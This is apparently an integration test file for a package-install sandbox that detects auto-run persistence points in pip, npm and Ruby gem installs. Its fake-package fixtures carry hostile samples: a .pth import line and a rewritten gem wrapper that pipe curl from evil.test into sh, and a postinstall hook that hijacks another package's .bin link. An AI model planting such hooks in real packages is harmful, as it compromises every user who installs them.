// Auto-run points with the real clients against the tests' own fake internet: files a
// package drops inside the expected paths that would run later by themselves on the host —
// a .pth import line, a node_modules/.bin link into another package, a rewritten gem
// wrapper — hold the run (exit 121) with a finding naming the file and the package, and
// nothing is promoted; the .pth setuptools ships is promoted as usual.
#include <catch2/catch.hpp>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"
#include "tests/support/ecosystem_registries.h"
#include "tests/support/fake_internet.h"
#include "tests/support/npm_registry.h"

using namespace safeinstall::test;
using namespace std::chrono_literals;

namespace {

constexpr const char* kPython = "/usr/bin/python3";
const std::string kSitePackages = ".venv/lib/python3.11/site-packages";

void make_venv(const Scenario& s) {
  RunOptions options;
  if (s.who() == Who::Unprivileged) options.as_user = kUnprivilegedUid;
  auto made = run({kPython, "-m", "venv", s.project() + "/.venv"}, options);
  INFO(made.err);
  REQUIRE(made.exit_code == 0);
}

SandboxRun pip_install(const Scenario& s, const std::string& package) {
  auto run = s.run({".venv/bin/pip", "install", "--index-url", "http://registry.test/simple/",
                    "--trusted-host", "registry.test", package},
                   {"--allow-host", "registry.test:80"}, kCleanCiEnv, 120s);
  UNSCOPED_INFO("pip install " << package << "\nexit " << run.exit_code()
                               << "\nstdout: " << run.result.out << "\nstderr: " << run.result.err);
  return run;
}

std::optional<std::string> venv_unavailable() {
  if (run({kPython, "-c", "import venv, ensurepip"}).exit_code != 0)
    return "python3-venv is not installed (scripts/setup.sh installs it)";
  return std::nullopt;
}

#define SKIP_UNLESS_PIP(who)                      \
  SKIP_UNLESS_INSTALL_TEST(who, kPython);         \
  do {                                            \
    if (auto venv_reason_ = venv_unavailable()) { \
      WARN("skipped: " << *venv_reason_);         \
      return;                                     \
    }                                             \
  } while (false)

// The report's auto-run findings.
std::vector<nlohmann::json> auto_run_findings(const nlohmann::json& report) {
  std::vector<nlohmann::json> out;
  if (!report.contains("findings")) return out;
  for (const auto& f : report.at("findings"))
    if (f.value("kind", "") == "auto-run") out.push_back(f);
  return out;
}

void check_finding(const SandboxRun& run, const std::string& path, const std::string& package) {
  auto findings = auto_run_findings(run.report);
  INFO(run.report.dump(2).substr(0, 20000));
  REQUIRE(findings.size() == 1);
  CHECK(findings[0].at("path") == path);
  CHECK(findings[0].at("package") == package);
  CHECK(findings[0].at("severity") == "high");
  bool listed = false;
  for (const auto& v : violations_of_kind(run.report, "auto-run"))
    listed = listed || contains(v.at("detail").get<std::string>(), path);
  CHECK(listed);
  // The receipt names it too.
  CHECK(contains(run.result.err, path));
}

}  // namespace

TEST_CASE("pip: a wheel with an import line in a .pth is held and nothing is promoted",
          "[install][pip][autorun]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_PIP(who);
  FakeInternet net(SI_SINK_PATH);
  write_pypi_registry(net.registry_root(), "http://registry.test/",
                      {{.name = "si-helper",
                        .version = "1.0.0",
                        .files = {{"si_helper/__init__.py", "VALUE = 1\n"},
                                  {"si_helper_init.pth",
                                   "import os; os.system('curl -s http://evil.test/x | sh')\n"}}}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  make_venv(s);

  auto install = pip_install(s, "si-helper");
  CHECK(install.exit_code() == kExitSuspicious);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("verdict") == "held");
  check_finding(install, kSitePackages + "/si_helper_init.pth", "si_helper@1.0.0");
  CHECK_FALSE(in_project(s, kSitePackages + "/si_helper_init.pth"));
  CHECK_FALSE(in_project(s, kSitePackages + "/si_helper/__init__.py"));
}

TEST_CASE("pip: a wheel with setuptools' distutils-precedence.pth is promoted",
          "[install][pip][autorun]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_PIP(who);
  FakeInternet net(SI_SINK_PATH);
  write_pypi_registry(
      net.registry_root(), "http://registry.test/",
      {{.name = "si-setuptools-like",
        .version = "69.0.0",
        .files = {{"_distutils_hack/__init__.py", "def add_shim():\n    pass\n"},
                  {"distutils-precedence.pth",
                   "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, "
                   "'local') == 'local'; enabled and "
                   "__import__('_distutils_hack').add_shim(); \n"}}}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  make_venv(s);

  auto install = pip_install(s, "si-setuptools-like");
  CHECK(install.exit_code() == 0);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("verdict") == "promoted");
  CHECK(auto_run_findings(install.report).empty());
  CHECK(in_project(s, kSitePackages + "/distutils-precedence.pth"));
}

TEST_CASE("npm: a postinstall that points another package's .bin link at its own file is held",
          "[install][npm][autorun]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_INSTALL_TEST(who, "npm");
  FakeInternet net(SI_SINK_PATH);
  write_npm_registry(net.registry_root(), "http://registry.test/",
                     {{.name = "si-tool",
                       .version = "1.0.0",
                       .files = {{"cli.js", "#!/usr/bin/env node\nconsole.log('tool');\n"}},
                       .bin = {{"si-tool", "cli.js"}}},
                      {.name = "si-hijack",
                       .version = "1.0.0",
                       .dependencies = {{"si-tool", "1.0.0"}},
                       .scripts = {{"postinstall", "node hook.js"}},
                       .files = {{"payload.js", "#!/usr/bin/env node\nconsole.log('payload');\n"},
                                 {"hook.js",
                                  "const fs = require('fs');\n"
                                  "const link = '../.bin/si-tool';\n"
                                  "try { fs.unlinkSync(link); } catch (e) {}\n"
                                  "fs.symlinkSync('../si-hijack/payload.js', link);\n"
                                  "console.log('hook: relinked');\n"}}}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_package_json(s, "\"si-hijack\":\"1.0.0\"");

  auto install = run_npm(s, {"install", "--foreground-scripts"});
  CHECK(contains(install.result.out + install.result.err, "hook: relinked"));
  CHECK(install.exit_code() == kExitSuspicious);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("verdict") == "held");
  check_finding(install, "node_modules/.bin/si-tool", "si-hijack@1.0.0");
  CHECK_FALSE(in_project(s, "node_modules"));
}

TEST_CASE("bundler: an extconf.rb that rewrites another gem's bin wrapper is held",
          "[install][bundler][autorun]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_INSTALL_TEST(who, "bundle", "make");
  FakeInternet net(SI_SINK_PATH);
  write_gem_registry(
      net.registry_root(), "http://registry.test/",
      {{.name = "si-tool",
        .version = "1.0.0",
        .files = {{"lib/si-tool.rb", "SI_TOOL = 1\n"}, {"bin/si-tool", "puts 'tool'\n"}},
        .executables = {"si-tool"}},
       {.name = "si-native",
        .version = "2.0.0",
        .files = {{"lib/si-native.rb", "SI_NATIVE = 1\n"}, {"bin/si-native", "puts 'n'\n"}},
        .dependencies = {{"si-tool", ">= 1.0"}},
        .extconf_rb = "wrapper = File.expand_path('../../../../bin/si-tool', __dir__)\n"
                      "File.open(wrapper, 'a') { |f| f.puts \"system('curl -s evil.test | sh')\" "
                      "}\nputs \"extconf: rewrote #{wrapper}\"\n"
                      "File.write('Makefile', \"all:\\ninstall:\\nclean:\\n\")\n",
        .executables = {"si-native"}}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  host_write(s, "Gemfile", "source \"http://registry.test/gems/\"\ngem \"si-native\"\n");

  auto install = s.run({"bundle", "install"}, {}, kCleanCiEnv, 120s);
  UNSCOPED_INFO("bundle install\nexit " << install.exit_code() << "\nstdout: " << install.result.out
                                        << "\nstderr: " << install.result.err);
  CHECK(install.exit_code() == kExitSuspicious);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("verdict") == "held");
  // The wrapper of si-native is RubyGems' own: only the rewritten one is a finding.
  check_finding(install, "vendor/bundle/ruby/3.1.0/bin/si-tool", "si-native@2.0.0");
  CHECK_FALSE(in_project(s, "vendor"));
}
